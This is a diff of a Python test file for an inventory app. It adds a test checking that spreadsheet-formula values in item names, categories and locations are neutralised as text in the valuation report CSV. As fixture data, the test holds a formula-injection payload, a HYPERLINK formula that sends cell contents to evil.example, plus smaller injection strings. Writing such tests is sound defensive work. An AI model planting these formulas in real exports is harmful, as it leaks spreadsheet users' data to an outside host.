@@ -7,7 +7,7 @@ import io
 from datetime import UTC, datetime, timedelta
 from decimal import Decimal
 
-from tests.tasks.conftest import outbox_rows
+from tests.helpers.tasks import outbox_rows
 
 
 def test_valuation_report_numbers_match_the_data_and_download_as_csv(app, factory):
@@ -104,3 +104,33 @@ def test_valuation_leaves_out_movements_before_the_week(app, factory, ctx):
     later = datetime.now(UTC) + timedelta(days=8)
     assert reports.valuation(later).top_movers == []
     assert reports.valuation(datetime.now(UTC) + timedelta(minutes=1)).top_movers == [("OLD", item.name, 2, 1)]
+
+
+def test_valuation_csv_cells_that_would_be_formulas_arrive_as_text(app, factory):
+    """An item named =HYPERLINK(...) is text in the downloaded and the emailed CSV, not a live formula."""
+    import tasks  # noqa: F401
+
+    boss = factory.user("manager", email="boss@example.com")
+    evil = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+    category = factory.category("+SUM(1,2)")
+    location = factory.location("@cmd")
+    factory.item(quantity=1, name=evil, sku="EVIL-1", category_id=category.id, location=location, low_stock_threshold=5)
+    factory.item(quantity=2, name="-2+3", sku="EVIL-2", location=location, low_stock_threshold=5)
+    factory.item(quantity=3, name="\tTabbed", sku="EVIL-3", location=location, low_stock_threshold=5)
+    result = app.extensions["celery"].tasks["tasks.reports.send_valuation_report"].apply()
+    assert result.successful(), result.traceback
+
+    with app.app_context():
+        from app.services import reports
+
+        report = reports.list_reports()[0]
+        stored, report_id = report.content, report.id
+    download = app.test_client().get(f"/reports/{report_id}.csv", headers=factory.headers(user=boss))
+    for text in (stored, download.text):
+        rows = list(csv.DictReader(io.StringIO(text)))
+        names = {r["name"] for r in rows}
+        assert "'" + evil in names and evil not in names
+        assert {"'+SUM(1,2)", "'@cmd", "'-2+3", "'\tTabbed"} <= names
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [cell for cell in cells if cell[:1] in ("=", "+", "@", "\t", "\r")]
+        assert all(not c.startswith("'") for c in (r["units"] for r in rows))
